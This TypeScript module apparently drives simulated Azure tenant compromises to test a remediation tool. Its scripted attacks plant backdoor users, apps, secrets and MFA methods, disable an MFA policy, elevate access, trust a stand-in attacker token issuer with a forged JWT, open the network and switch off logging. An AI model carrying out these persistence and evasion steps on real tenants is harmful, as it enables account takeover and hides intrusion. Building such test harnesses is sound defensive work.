import { generateKeyPairSync, sign } from 'node:crypto';
import type { Azure } from '../start';
import { Agent, hostile } from './agent';
import { goDark, grant, makeOwner, mine, openNetwork, plantApplication, plantMethod, plantSecret, plantUser, publish } from './steps';
import { during, patiently } from './tools';
import { nothing, type AzureAttack, type AzureLive, type AzurePlanted, type AzureScenarioName } from './types';

export { Agent, hostile } from './agent';
export { stateOf } from './tools';
export { fightBack, synchronise, type Undoer } from './undoer';
export type { AzureAttack, AzureLive, AzurePlanted, AzureScenarioName } from './types';

type Play = (azure: Azure, planted: AzurePlanted, live: AzureLive[]) => Promise<{ id: string; name: string }>;

const people = { on: 'graph', method: 'GET', path: '/users' } as const;

/** A Global Administrator’s password and second factor, taken by a page in between: signed in from elsewhere, and everything planted that gives a way back. */
const globalAdminLogin: Play = async (azure, planted, live) => {
  const { dana, payroll, estate, mfaPolicy } = azure.world;
  const as = new Agent(azure, { kind: 'password', upn: dana.upn, password: dana.password, mfa: true });
  await as.graph('GET', '/users');
  live.push({ what: `${dana.name}’s session`, credential: { kind: 'session', refreshToken: as.refreshToken! }, probe: people }, { what: `${dana.name}’s password`, credential: { kind: 'password', upn: dana.upn, password: dana.password, mfa: true }, probe: people });
  live.push({ what: `${dana.name}’s running token`, credential: { kind: 'token', graph: await as.token('graph'), arm: await as.token('arm') }, probe: people });
  live.push(await plantUser(azure, as, planted), await plantApplication(azure, as, planted), await plantSecret(as, payroll, planted));
  await plantMethod(as, dana.id, planted);
  await as.graph('PATCH', `/identity/conditionalAccess/policies/${mfaPolicy.id}`, { state: 'disabled' });
  await as.arm('POST', '/providers/Microsoft.Authorization/elevateAccess');
  await patiently('ownership', () => makeOwner(as, estate.production, planted.applications[0]!.servicePrincipalId, 'ServicePrincipal'));
  live.push({ what: 'the planted application at the machines', credential: live.find((one) => one.what.startsWith('the planted application'))!.credential, probe: { on: 'arm', method: 'GET', path: estate.vm } });
  await openNetwork(as, estate.nsg, planted);
  await publish(as, estate.container, planted);
  await mine(azure, as, planted);
  await goDark(azure, as);
  as.close();
  return { id: dana.id, name: dana.upn };
};

/** A deployment application’s leaked secret: it gives itself more credentials and permissions, and makes an application of the attacker’s. */
const rogueServicePrincipal: Play = async (azure, planted, live) => {
  const { ci, estate } = azure.world;
  const as = new Agent(azure, { kind: 'secret', appId: ci.appId, secret: ci.secret });
  live.push({ what: `${ci.name}’s secret`, credential: as.credential, probe: people });
  await as.graph('GET', '/users');
  live.push(await plantSecret(as, ci, planted));
  live.push(await federate(azure, as, planted));
  await grant(as, ci.servicePrincipalId, 'RoleManagement.ReadWrite.Directory');
  live.push(await plantApplication(azure, as, planted));
  await openNetwork(as, estate.nsg, planted);
  await mine(azure, as, planted);
  as.close();
  return { id: ci.servicePrincipalId, name: ci.name };
};

/** Trust in an issuer of the attacker’s: no secret that anybody could find. */
async function federate(azure: Azure, as: Agent, planted: AzurePlanted): Promise<AzureLive> {
  const { ci } = azure.world;
  const issuer = 'https://token.evil.example';
  const keys = generateKeyPairSync('rsa', { modulusLength: 2048 });
  azure.sim.issuers.set(issuer, keys.publicKey.export({ type: 'spki', format: 'pem' }).toString());
  const { id } = await as.graph<{ id: string }>('POST', `/applications/${ci.applicationId}/federatedIdentityCredentials`, { name: 'release', issuer, subject: 'anybody', audiences: ['api://AzureADTokenExchange'] });
  planted.federatedCredentials.push({ applicationId: ci.applicationId, id });
  const base64 = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
  const head = `${base64({ alg: 'RS256', typ: 'JWT' })}.${base64({ iss: issuer, sub: 'anybody', aud: 'api://AzureADTokenExchange', exp: 4_102_444_800 })}`;
  const assertion = `${head}.${sign('RSA-SHA256', Buffer.from(head), keys.privateKey).toString('base64url')}`;
  return { what: `the foreign issuer that ${ci.name} trusts`, credential: { kind: 'assertion', appId: ci.appId, assertion }, probe: people };
}

/** Eve, who owns production, has lost her session: logging goes off first, then the rest happens in the dark. */
const loggingDark: Play = async (azure, planted, live) => {
  const { eve, estate } = azure.world;
  const as = new Agent(azure, { kind: 'password', upn: eve.upn, password: eve.password, mfa: true });
  await as.arm('GET', estate.vm);
  live.push({ what: `${eve.name}’s session`, credential: { kind: 'session', refreshToken: as.refreshToken! }, probe: { on: 'arm', method: 'GET', path: estate.vm } }, { what: `${eve.name}’s password`, credential: as.credential, probe: { on: 'arm', method: 'GET', path: estate.vm } });
  await goDark(azure, as);
  await openNetwork(as, estate.nsg, planted);
  await publish(as, estate.container, planted);
  await mine(azure, as, planted);
  as.close();
  return { id: eve.id, name: eve.upn };
};

const plays: Record<AzureScenarioName, Play> = { 'global-admin-login': globalAdminLogin, 'rogue-service-principal': rogueServicePrincipal, 'logging-dark': loggingDark };
export const azureScenarioNames = Object.keys(plays) as AzureScenarioName[];

/** Plays one attack with real calls under stolen credentials; returns what it left, and what the logs exported. */
export async function attack(azure: Azure, scenario: AzureScenarioName): Promise<AzureAttack> {
  const planted = nothing();
  const live: AzureLive[] = [];
  const startedAt = new Date().toISOString();
  const { value: { id, name }, events } = await during(azure, () => plays[scenario](azure, planted, live));
  return { scenario, tenant: azure.tenantId, principal: id, name, sourceIp: hostile.sourceIp, startedAt, events, planted, live };
}
